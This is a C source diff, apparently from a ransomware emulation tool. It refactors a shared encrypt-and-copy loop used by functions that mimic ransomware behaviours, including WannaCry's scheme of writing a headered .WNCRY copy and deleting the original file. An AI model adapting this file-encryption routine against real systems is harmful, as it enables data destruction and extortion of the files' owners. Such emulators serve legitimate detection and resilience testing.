@@ -991,6 +991,32 @@ static int attack_inplace(const char *rel)
 	return rc;
 }
 
+/* in's content, encrypted for rel, written to out from offset at. */
+static int encrypt_copy(int in, int out, off_t at, const char *rel)
+{
+	struct xf x;
+	int rc = xf_init(&x, rel);
+	unsigned char *buf = malloc(IOBUF);
+	if (!buf)
+		rc = -1;
+	off_t o = 0;
+	while (rc == 0) {
+		ssize_t r = read_all_at(in, buf, IOBUF, o);
+		if (r <= 0) {
+			rc = r < 0 ? -1 : 0;
+			break;
+		}
+		if (xf_apply(&x, buf, (size_t)r) != 0 ||
+		    write_all_at(out, buf, (size_t)r, at + o) != 0)
+			rc = -1;
+		o += r;
+		atomic_fetch_add(&g_bytes, r);
+	}
+	free(buf);
+	xf_free(&x);
+	return rc;
+}
+
 /* WannaCry: new file <f>.WNCRYT with a WANACRY! header, renamed to .WNCRY,
  * then the original is deleted. */
 static int attack_newfile(const char *rel)
@@ -1021,25 +1047,8 @@ static int attack_newfile(const char *rel)
 	memcpy(hdr + 268, &type, 4);
 	memcpy(hdr + 272, &osz, 8);
 	int rc = write_all_at(out, hdr, sizeof hdr, 0);
-	struct xf x;
 	if (rc == 0)
-		rc = xf_init(&x, rel);
-	unsigned char *buf = malloc(IOBUF);
-	off_t o = 0;
-	while (rc == 0 && buf) {
-		ssize_t r = read_all_at(in, buf, IOBUF, o);
-		if (r <= 0) {
-			rc = r < 0 ? -1 : 0;
-			break;
-		}
-		if (xf_apply(&x, buf, (size_t)r) != 0 ||
-		    write_all_at(out, buf, (size_t)r, (off_t)sizeof hdr + o) != 0)
-			rc = -1;
-		o += r;
-		atomic_fetch_add(&g_bytes, r);
-	}
-	free(buf);
-	xf_free(&x);
+		rc = encrypt_copy(in, out, (off_t)sizeof hdr, rel);
 	close(in);
 	close(out);
 	if (rc != 0)
@@ -1068,26 +1077,7 @@ static int attack_renameover(const char *rel)
 		close(in);
 		return -1;
 	}
-	struct xf x;
-	int rc = xf_init(&x, rel);
-	unsigned char *buf = malloc(IOBUF);
-	off_t o = 0;
-	while (rc == 0 && buf) {
-		ssize_t r = read_all_at(in, buf, IOBUF, o);
-		if (r <= 0) {
-			rc = r < 0 ? -1 : 0;
-			break;
-		}
-		if (xf_apply(&x, buf, (size_t)r) != 0 ||
-		    write_all_at(out, buf, (size_t)r, o) != 0)
-			rc = -1;
-		o += r;
-		atomic_fetch_add(&g_bytes, r);
-	}
-	if (!buf)
-		rc = -1;
-	free(buf);
-	xf_free(&x);
+	int rc = encrypt_copy(in, out, 0, rel);
 	close(in);
 	close(out);
 	if (rc != 0)
